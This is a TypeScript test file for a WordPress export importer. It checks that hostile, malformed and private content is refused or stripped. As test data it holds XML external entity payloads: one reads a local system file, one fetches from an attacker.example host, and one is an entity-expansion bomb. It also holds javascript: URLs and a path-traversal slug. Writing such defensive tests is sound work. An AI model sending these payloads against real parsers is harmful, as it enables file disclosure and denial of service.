/** What exports hold that is hostile, broken or private, one kind after another. */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { reportText } from '../../../src/importer/report-text.ts';
import { bodyOf, comment, exportOf, faultsIn, filesIn, imported, item, newHouse, PRIVATE, tag } from './exports.ts';

const post = (files: Record<string, string>, name = '2010/waste') => files[`posts/${name}.mdx`] ?? '';

describe('An export that wants to read other files', () => {
  it.each([
    ['a DOCTYPE', '<!DOCTYPE rss>'],
    ['an entity that grows', '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'],
    ['a file of this machine', '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
    ['a parameter from the network', '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://attacker.example/x"> %p;]>'],
  ])('is refused for %s', async (_, doctype) => {
    const content = newHouse();
    await expect(imported(exportOf(item({ content: '&x;' })).replace('<rss', `${doctype}<rss`), { content })).rejects.toThrow(/DOCTYPE/);
    expect(filesIn(content)).toEqual({});
  });

  it('is refused for an entity that XML does not know', async () => {
    await expect(imported(exportOf('<item><title>a&nbsp;b</title></item>'))).rejects.toThrow(/Item 1, byte \d+: this is not well-formed XML \(undefined entity\)/);
  });
});

describe('Text in every form that exports have', () => {
  it('is the same whether it is split around ]]>, mixed with bare text, or has other prefixes', async () => {
    const content = '<p>a ]]&gt; b</p>';
    const one = exportOf(item({ content: 'x[y]]>z' }));
    expect(bodyOf(post((await imported(one)).files))).toBe('x\\[y]]>z');
    const bare = one.replace('<![CDATA[Waste]]>', 'Wa<![CDATA[s]]>te');
    expect(post((await imported(bare)).files)).toContain('title: Waste\n');
    const other = exportOf(item({ content })).replaceAll('wp:', 'w:').replace('xmlns:wp=', 'xmlns:w=').replaceAll('content:encoded', 'c:encoded').replace('xmlns:content', 'xmlns:c');
    expect(bodyOf(post((await imported(other)).files))).toBe('a ]]> b');
  });

  it.each(['http://wordpress.org/export/1.0/', 'http://wordpress.org/export/1.1/', 'https://wordpress.org/export/1.2/'])('comes along from the namespace %s', async (namespace) => {
    expect(post((await imported(exportOf(item()).replace('http://wordpress.org/export/1.2/"', `${namespace}"`))).files)).toContain('Words.');
  });

  it('is refused without a version, and where CDATA stands in CDATA', async () => {
    await expect(imported(exportOf(item(), { version: '' }))).rejects.toThrow(/no WordPress export: its version/);
    await expect(imported(exportOf(item()).replace('Words.', '<![CDATA[Words.]]>'))).rejects.toThrow(/not well-formed/);
  });
});

describe('Items that claim the same place', () => {
  it('are all kept, and the report says which got another name', async () => {
    const { files, report, content } = await imported(exportOf(item() + item() + item({ id: '8', content: 'Other words.' }) + item({ id: '9', name: 'Waste', content: 'Third.' })));
    expect(Object.keys(files).filter((name) => name.startsWith('posts/'))).toEqual(['posts/2010/waste-2.mdx', 'posts/2010/waste-3.mdx', 'posts/2010/waste-4.mdx', 'posts/2010/waste.mdx']);
    expect(report.items.map(({ notes }) => notes.map(({ code }) => code).filter((code) => code !== 'old-address'))).toEqual([[], ['name-taken', 'number-twice'], ['name-taken'], ['name-taken']]);
    expect(await faultsIn(content)).toEqual([]);
  });
});

describe('Comments that WordPress does not show', () => {
  it('are kept out, and counted by kind', async () => {
    const comments = [comment(), comment({ id: '2', approved: '0' }), comment({ id: '3', approved: 'spam' }), comment({ id: '4', approved: 'trash' }), comment({ id: '5', approved: 'post-trashed' }),
      comment({ id: '6', type: 'note' }), comment({ id: '7', type: 'order_note' }), comment({ id: '8', approved: '' })].join('');
    const { files, report } = await imported(exportOf(item({ more: comments })));
    expect(files['threads/posts/2010/waste.yaml']?.match(/id: \d+/g)).toEqual(['id: 1']);
    expect(report.counts.comments).toEqual({ inFile: 8, shown: 1, mentions: 0, keptOut: { 'not-approved': 1, note: 1, pending: 1, spam: 1, trash: 2, 'unknown-type': 1 } });
  });
});

describe('Items that WordPress does not show to everybody', () => {
  const hidden = ['draft', 'pending', 'private', 'future', 'trash', 'inherit', 'auto-draft', 'Publish', ''].map((status, at) => item({ id: String(at + 10), status, title: `Hidden title ${at}`, content: 'Hidden words.' }))
    .concat([item({ id: '30', password: 'hunter2', title: 'The password is hunter2', content: 'Hidden words.', more: comment({ content: 'Hidden words.' }) })],
      ['revision', 'nav_menu_item', 'attachment', 'wp_block', 'product'].map((type, at) => item({ id: String(at + 40), type, content: 'Hidden words.', title: 'Hidden title' }))).join('');

  it('are kept out with everything below them, counted, and named by number only', async () => {
    const { files, report } = await imported(exportOf(item() + hidden));
    expect(Object.keys(files)).toEqual(['people/rose-ward.yaml', 'posts/2010/waste.mdx', 'redirects/old-example.yaml']);
    expect(report.counts.keptOut).toEqual({ draft: 3, library: 1, menu: 1, 'other-type': 1, password: 1, private: 1, 'reusable-block': 1, revision: 1, scheduled: 1, trash: 1, 'unknown-status': 3 });
    expect(JSON.stringify(report) + reportText(report) + JSON.stringify(files)).not.toMatch(/Hidden|hunter2/);
    expect(report.counts.comments.keptOut).toEqual({ 'on-password': 1 });
  });

  it('come along as drafts where that is asked for: drafts, those that wait, and scheduled ones; never a password', async () => {
    const { files, report, content } = await imported(exportOf(hidden), { drafts: true });
    expect(report.counts.drafts).toBe(3);
    expect(Object.entries(files).filter(([name]) => name.startsWith('posts/')).every(([, text]) => text.includes('draft: true'))).toBe(true);
    expect(JSON.stringify(files) + JSON.stringify(report)).not.toContain('hunter2');
    expect(await faultsIn(content)).toEqual([]);
  });
});

describe('Comments that answer nothing', () => {
  it('stand at the top level: without a parent, below a hidden one, below themselves, or in a circle', async () => {
    const comments = [comment({ id: '1', parent: '99' }), comment({ id: '2', approved: '0' }), comment({ id: '3', parent: '2' }), comment({ id: '4', parent: '4' }), comment({ id: '5', parent: '6' }), comment({ id: '6', parent: '5' }),
      comment({ id: '7', parent: '3', date: '2010-09-01 08:00:00' }), comment({ id: '1', content: 'The number again.' }), comment({ id: '' })].join('');
    const { files, notes, content, report } = await imported(exportOf(item({ more: comments }) + item({ id: '', name: 'without-number', more: comment({ id: '50' }) })));
    const thread = files['threads/posts/2010/waste.yaml'] ?? '';
    expect(thread.match(/answers: \d+/g)).toEqual(['answers: 3', 'answers: 5']);
    expect(thread.match(/- id: .*/g)).toHaveLength(8);
    expect(notes.filter((code) => code.startsWith('comment-')).toSorted()).toEqual(['comment-circle', 'comment-orphan', 'comment-orphan', 'comment-orphan']);
    expect(files['threads/posts/2010/without-number.yaml']).toContain('id: 50');
    expect(report.counts.comments).toMatchObject({ inFile: 10, shown: 9 });
    expect((await faultsIn(content)).filter((fault) => !fault.includes('comment-before-parent'))).toEqual([]);
  });
});

describe('Addresses that cannot be linked', () => {
  it.each(['javascript:alert(1)', 'ftp://files.example/', 'www.example.org', 'https://example.org/a b', 'https://user:secret@example.org/', 'http://192.0.2.7/'])('are not kept with a name: %s', async (url) => {
    const { files, notes, content } = await imported(exportOf(item({ more: comment({ url }) })));
    expect(files['threads/posts/2010/waste.yaml']).not.toContain('website');
    expect(notes).toContain('comment-website');
    expect(await faultsIn(content)).toEqual([]);
  });

  it('leave no mention, and the report says so', async () => {
    const { files, report } = await imported(exportOf(item({ more: comment({ type: 'trackback', url: 'javascript:alert(1)' }) + comment({ id: '2', type: 'pingback', url: '' }) })));
    expect(Object.keys(files).filter((name) => name.startsWith('mentions/'))).toEqual([]);
    expect(report.counts.comments).toMatchObject({ inFile: 2, mentions: 0, keptOut: { unusable: 2 } });
  });
});

describe('Serialised PHP', () => {
  it('is passed over', async () => {
    const meta = '<wp:postmeta><wp:meta_key>_wp_x</wp:meta_key><wp:meta_value><![CDATA[O:8:"stdClass":1:{s:1:"a";s:9:"private-x";}]]></wp:meta_value></wp:postmeta>';
    const { files, report } = await imported(exportOf(item({ more: meta })));
    expect(JSON.stringify(files) + JSON.stringify(report)).not.toMatch(PRIVATE);
  });
});

describe('Letters that went wrong on the way', () => {
  it('stop the import where they are not UTF-8, with the byte', async () => {
    const bytes = Buffer.from(exportOf(item({ content: 'Caf\u00e9' })), 'latin1');
    await expect(imported(bytes)).rejects.toThrow(new RegExp(`yte ${bytes.indexOf(0xe9)}: a letter is not UTF-8`));
    await expect(imported(exportOf(item()).replace('UTF-8', 'ISO-8859-1'))).rejects.toThrow(/says that it is written in ISO-8859-1/);
  });

  it('are mended where they are control characters, which the report says', async () => {
    const { files, report } = await imported(exportOf(item({ title: 'Wa\u0008ste', content: 'One\u0000two &#8;three\u0092' })));
    expect(post(files)).toContain('title: Waste\n');
    expect(bodyOf(post(files))).toBe('Onetwo three');
    expect(report.notes.map(({ text }) => text)).toEqual([expect.stringContaining('3 invisible control characters')]);
  });

  it('are read once where they are codes, and no more than once', async () => {
    const { files } = await imported(exportOf(item({ title: 'A &amp;#8217; B &#8217; C', content: 'A &amp;#8217; B &#8217; C', more: comment({ author: 'O&#8217;Brien', content: '&amp;lt; &#8217;' }) })));
    expect(post(files)).toContain('title: A &#8217; B ’ C\n');
    expect(bodyOf(post(files))).toBe('A \\&#8217; B ’ C');
    expect(files['threads/posts/2010/waste.yaml']).toContain('name: O’Brien\n');
    expect(files['threads/posts/2010/waste.yaml']).toContain('text: "&lt; ’"\n');
  });
});

describe('Names that cannot stand in an address', () => {
  it.each([
    ['../../x', 'x'], ['x'.repeat(300), 'x'.repeat(100)], ['🗑️', 'waste-and-more'], ['%ce%b1', 'waste-and-more'], ['index', 'waste-and-more'], ['', 'waste-and-more'], ['Caf\u00e9 Plan', 'cafe-plan'],
  ])('become safe ones: %s', async (name, slug) => {
    const { files, content } = await imported(exportOf(item({ name, title: 'Waste & more', link: 'https://old.example/2010/09/old%20one/' })));
    expect(Object.keys(files).filter((file) => file.startsWith('posts/'))).toEqual([`posts/2010/${slug}.mdx`]);
    expect(post(files, `2010/${slug}`)).toContain('- /2010/09/old%20one/');
    expect(await faultsIn(content)).toEqual([]);
  });

  it('lead on from old addresses as long as a file system can hold them', async () => {
    const [long, longer] = ['%c3%a9'.repeat(127), 'x'.repeat(300)];
    const { files, notes, content } = await imported(exportOf(item({ name: 'a', link: `https://old.example/2010/09/01/${long}/` }) + item({ id: '8', name: 'b', link: `https://old.example/2010/09/01/${longer}/` })));
    expect(post(files, '2010/a')).toContain(long);
    expect(notes).toContain('old-address');
    expect(await faultsIn(content)).toEqual([]);
  });

  it('are told apart from the pages that the site makes itself', async () => {
    const { files, content } = await imported(exportOf(['search', 'posts', 'feed', 'about'].map((name, at) => item({ id: String(at + 1), type: 'page', name, title: name, link: `https://old.example/${name}/` })).join('')));
    expect(Object.keys(files)).toEqual(['pages/about.mdx', 'pages/page-3.mdx', 'pages/posts-2.mdx', 'pages/search-2.mdx']);
    expect(await faultsIn(content)).toEqual([]);
  });
});

describe('Files that are no export', () => {
  it.each([
    ['a gzip archive', gzipSync('x')], ['a zip archive', Buffer.from('PK\u0003\u0004')], ['nothing', ''], ['a feed', '<rss version="2.0"><channel><title>x</title><item><title>y</title></item></channel></rss>'],
    ['an empty feed', '<rss version="2.0"><channel><title>x</title></channel></rss>'], ['a web page', '<html><body><p>x<br></body></html>'], ['prose', 'Dear Sir'], ['UTF-16', Buffer.from('\ufeff<rss/>', 'utf16le')],
  ])('are refused: %s', async (_, bytes) => {
    const content = newHouse();
    await expect(imported(bytes, { content })).rejects.toMatchObject({ name: 'ExportFault' });
    expect(filesIn(content)).toEqual({});
  });
});

describe('What is printed before an export', () => {
  it('is passed over where it is blank, and bytes are still counted from the beginning of the file', async () => {
    const xml = `\n \r\n${exportOf(item())}`;
    expect((await imported(xml)).report.counts.posts).toBe(1);
    const cut = xml.slice(0, xml.indexOf('<content:encoded>'));
    await expect(imported(cut)).rejects.toMatchObject({ name: 'ExportFault', byte: Buffer.byteLength(cut) });
  });

  it.each(['<br />\n<b>Warning</b>:  Undefined variable $x in <b>/srv/plugin.php</b> on line <b>3</b><br />\n', 'Warning: Undefined variable $x\n'])('is named where it is a warning of PHP: %j', async (warning) => {
    await expect(imported(warning + exportOf(item()))).rejects.toThrow(/other text stands before the export itself \("Warning ?: .*warning of PHP.*delete everything before/);
  });
});

describe('What is private', () => {
  it('is in no file and in no report, wherever it stood', async () => {
    const sneaky = comment({ author: 'private-name@secret.example', content: 'Write to private-reader@secret.example or 203.0.113.77', url: 'mailto:private-x@secret.example' });
    const ping = comment({ id: '2', type: 'pingback', author: 'Mail private-a@secret.example', content: '[...] private-b@secret.example [...]', url: 'https://ward.example/' });
    const { files, report, content } = await imported(exportOf(item({ author: 'private-login@secret.example', more: sneaky + ping + tag('Camden', 'camden') })));
    expect(JSON.stringify(files) + JSON.stringify(report) + reportText(report)).not.toMatch(PRIVATE);
    expect(files['threads/posts/2010/waste.yaml']).toContain('Write to […] or […]');
    expect(await faultsIn(content)).toEqual([]);
  });

  it('is not in the addresses of mentions or in quoted links, and a draft is named by its number', async () => {
    const pings = ['http://x.example/?u=private-a@secret.example', 'http://x.example/?u=private-a%40secret.example', 'http://203.0.113.9/page'].map((url, at) => comment({ id: String(at + 1), type: 'pingback', url })).join('');
    const { files, report, notes } = await imported(exportOf(item({ more: pings, content: '<a href="http://user:hunter2@host.example/">x</a> <img src="http://user:hunter2@host.example/a.png">' }) + item({ id: '8', status: 'draft', name: 'drafttitle', title: 'Draft title' })), { drafts: true });
    expect(Object.keys(files).filter((name) => name.startsWith('mentions/'))).toEqual([]);
    expect(notes.filter((code) => code === 'mention-personal')).toHaveLength(3);
    expect(JSON.stringify(report) + reportText(report)).not.toMatch(/private-|203\.0|hunter2|drafttitle|Draft title/);
    expect(reportText(report)).toContain('draft 8 (new)');
  });
});
